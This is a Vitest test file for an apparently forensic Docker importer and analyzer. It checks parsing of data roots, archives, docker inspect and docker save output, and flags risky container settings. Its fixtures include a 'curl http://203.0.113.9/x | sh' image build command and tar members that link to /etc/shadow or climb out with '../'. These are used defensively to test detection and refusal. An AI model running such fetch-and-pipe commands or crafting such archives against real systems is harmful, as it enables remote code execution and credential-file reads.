import { execFileSync } from 'node:child_process';
import { chmodSync } from 'node:fs';
import { appendFile, readFile, truncate } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { resolveCitation } from '../../../src/main/analyze/cite';
import { analyzeCase } from '../../../src/main/analyze/run';
import { newCase } from '../../kit/case';
import { bring, file, folder, verified } from './bring';
import { CONFIG, dataRoot, filesTar, GONE_ID, gz, HOSTCONFIG, IMAGE_ID, LOG, memberBytes, tarOf, WEB_ID } from './kit';

describe('a dead data root', () => {
  for (const [form, make] of [
    ['a folder', () => folder(dataRoot())],
    ['a tar', () => file('docker.tar', filesTar(dataRoot('var/lib/docker/')))],
    ['a tar.gz', () => file('docker.tgz', gz(filesTar(dataRoot('./docker/'))))],
    [
      'the output of UAC',
      () =>
        file(
          'uac-host.tar.gz',
          gz(filesTar({ 'uac.log': 'x', 'live_response/ps.txt': 'y', ...dataRoot('[root]/var/lib/docker/') })),
        ),
    ],
  ] as const) {
    it(`gives configuration, logs and images, each with its place, from ${form}`, async () => {
      const session = await newCase();
      const result = await bring(session, [await make()]);
      expect(result.items[0]).toMatchObject({ state: 'stored', exhibit: 'E0001', members: 7 });
      const records = await session.records();
      const told = records.slice(1).map((record) => `${record.collector.id} ${record.target.name}`);
      expect(told.sort()).toEqual(
        [
          'import.container-config web',
          'import.container-config gone',
          'import.container-hostconfig web',
          'import.container-log web',
          'import.engine-layers 4e0b6d33-0d84-4e3a-9d43-0f3a9d1c0001',
          'import.engine-repositories 4e0b6d33-0d84-4e3a-9d43-0f3a9d1c0001',
          'import.image-config shop:latest',
        ]
          .map(hostName(form, records[0]?.target.name ?? ''))
          .sort(),
      );
      for (const { how, id } of records.slice(1)) {
        expect(how, id).toMatchObject({ kind: 'import', parent: 'E0001' });
      }
      const config = records.find(
        ({ collector, target }) => collector.id === 'import.container-config' && target.name === 'web',
      );
      expect(config?.target).toEqual({ kind: 'container', id: WEB_ID, name: 'web' });
      expect(
        JSON.parse(await readFile(join(session.dir, 'evidence', config?.id ?? '', config?.file ?? ''), 'utf8')),
      ).toEqual(CONFIG);

      const { findings, unreadable } = await analyzeCase({ dir: session.dir, records });
      for (const { cites } of findings) for (const cite of cites) await resolveCitation(session.dir, cite);
      const rules = findings.filter(({ target }) => target.id === WEB_ID).map(({ rule }) => rule);
      for (const rule of [
        'config.privileged',
        'config.host-pid',
        'config.host-network',
        'config.engine-socket',
        'config.sensitive-mount',
        'config.shared-propagation',
        'config.published-ports',
        'config.secrets-env',
        'logs.request-attack',
      ]) {
        expect(rules).toContain(rule);
      }
      const image = findings.find(({ rule }) => rule === 'image.build-command');
      expect(image?.target).toEqual({ kind: 'image', id: `sha256:${IMAGE_ID}`, name: 'shop:latest' });
      // that of the container without a hostconfig.json says so
      expect(unreadable.map(({ reason }) => reason)).toEqual([expect.stringContaining('There is no HostConfig')]);
      expect(await verified(session)).toEqual([]);
    });
  }

  it('takes no link, device or climbing name for a member, and stops where the archive does', async () => {
    const session = await newCase();
    const config = { name: `containers/${WEB_ID}/config.v2.json`, body: JSON.stringify(CONFIG) };
    const bytes = Buffer.concat([
      memberBytes(config),
      memberBytes({ name: `containers/${GONE_ID}/config.v2.json`, type: '2', link: '/etc/shadow' }),
      memberBytes({ name: `containers/${GONE_ID}/hostconfig.json`, type: '3' }),
      memberBytes({ name: `../containers/${GONE_ID}/config.v2.json`, body: '{}' }),
      memberBytes({ name: `overlay2/x/diff/containers/${GONE_ID}/config.v2.json`, body: '{}' }),
      memberBytes({ name: `containers/${WEB_ID}/${WEB_ID}-json.log`, body: LOG, size: 100_000 }),
    ]);
    const result = await bring(session, [await file('root.tar', bytes)]);
    const collectors = session.data.exhibits.map(
      ({ collector, partial }) => `${collector.id}${partial ? ' partial' : ''}`,
    );
    expect(collectors).toEqual(['import.data-root', 'import.container-config', 'import.container-log partial']);
    const notes = result.items[0]?.notes.join('\n') ?? '';
    expect(notes).toMatch(/is a link, not a file/);
    expect(notes).toMatch(/is a device, not a file/);
    expect(notes).toMatch(/ends inside the member/);
    expect(await verified(session)).toEqual([]);
  });

  it.runIf(process.platform === 'linux')(
    'takes no sparse member for the bytes of its file, in any form of GNU tar',
    async () => {
      for (const form of [
        'gnu',
        'posix --sparse-version=0.0',
        'posix --sparse-version=0.1',
        'posix --sparse-version=1.0',
      ]) {
        const root = await folder(dataRoot());
        const log = `containers/${WEB_ID}/${WEB_ID}-json.log`;
        await truncate(join(root, log), 4 << 20);
        await appendFile(join(root, log), LOG);
        const archive = join(dirname(root), 'root.tar');
        execFileSync('tar', [
          `--format=${form.split(' ')[0]}`,
          ...form.split(' ').slice(1),
          '--sparse',
          '-cf',
          archive,
          '-C',
          root,
          '.',
        ]);
        const session = await newCase();
        const [item] = (await bring(session, [archive])).items;
        expect(item, form).toMatchObject({ state: 'stored', kind: 'data-root', members: 6 });
        expect(item?.notes.join(), form).toContain(`${log} is stored without its holes`.slice(0, 40));
        expect(session.data.exhibits.map(({ collector }) => collector.id)).not.toContain('import.container-log');
        expect(await verified(session)).toEqual([]);
      }
    },
  );

  it('reads docker inspect with several containers, each under its own name', async () => {
    const session = await newCase();
    const one = (Id: string, Name: string, Privileged: boolean) => ({
      Id,
      Name,
      Config: {},
      HostConfig: { ...HOSTCONFIG, Privileged },
      Mounts: [],
    });
    await bring(session, [
      await file(
        'inspect.json',
        JSON.stringify([one(WEB_ID, '/web', false), { Id: 'volume' }, one(GONE_ID, '/gone', true)]),
      ),
    ]);
    const { findings } = await analyzeCase({ dir: session.dir, records: await session.records() });
    const privileged = findings.filter(({ rule }) => rule === 'config.privileged');
    expect(privileged.map(({ target, cites }) => [target.name, cites])).toEqual([
      ['gone', [{ exhibit: 'E0001', locator: 'json:/2/HostConfig/Privileged' }]],
    ]);
    const [cite] = privileged[0]?.cites ?? [];
    expect(cite && (await resolveCitation(session.dir, cite)).value).toBe(true);
  });

  it('takes the configurations of images out of docker save', async () => {
    const session = await newCase();
    const config = { architecture: 'amd64', history: [{ created_by: 'curl http://203.0.113.9/x | sh' }] };
    const bytes = filesTar({
      [`blobs/sha256/${IMAGE_ID}`]: config,
      'manifest.json': [{ Config: `blobs/sha256/${IMAGE_ID}`, RepoTags: ['shop:1'], Layers: [] }],
    });
    await bring(session, [await file('images.tar', bytes)]);
    expect(session.data.exhibits.map(({ collector, target }) => [collector.id, target.name])).toEqual([
      ['import.docker-save', 'shop:1'],
      ['import.image-config', 'shop:1'],
    ]);
  });

  it.runIf(process.getuid?.() !== 0)('lists in an exhibit what it may not read', async () => {
    const session = await newCase();
    const root = await folder(dataRoot());
    chmodSync(join(root, 'engine-id'), 0);
    const result = await bring(session, [root]);
    expect(result.items[0]?.state).toBe('partial');
    expect(session.data.exhibits.map(({ collector }) => collector.id)).toContain('import.unread');
  });
});

/** The host is named by its engine's id where the archive was taken for a data root, else by its file. */
function hostName(form: string, parent: string) {
  return (line: string) =>
    form === 'a folder' || form.startsWith('the output')
      ? line.replace(/^(import\.engine-\w+) .*/, `$1 ${parent}`)
      : line;
}

it('an archive without members of such names gives none', async () => {
  const session = await newCase();
  expect((await bring(session, [await file('x.tar', tarOf([{ name: 'x', body: 'y' }]))])).items[0]).toMatchObject({
    kind: 'tar',
    members: 0,
  });
});
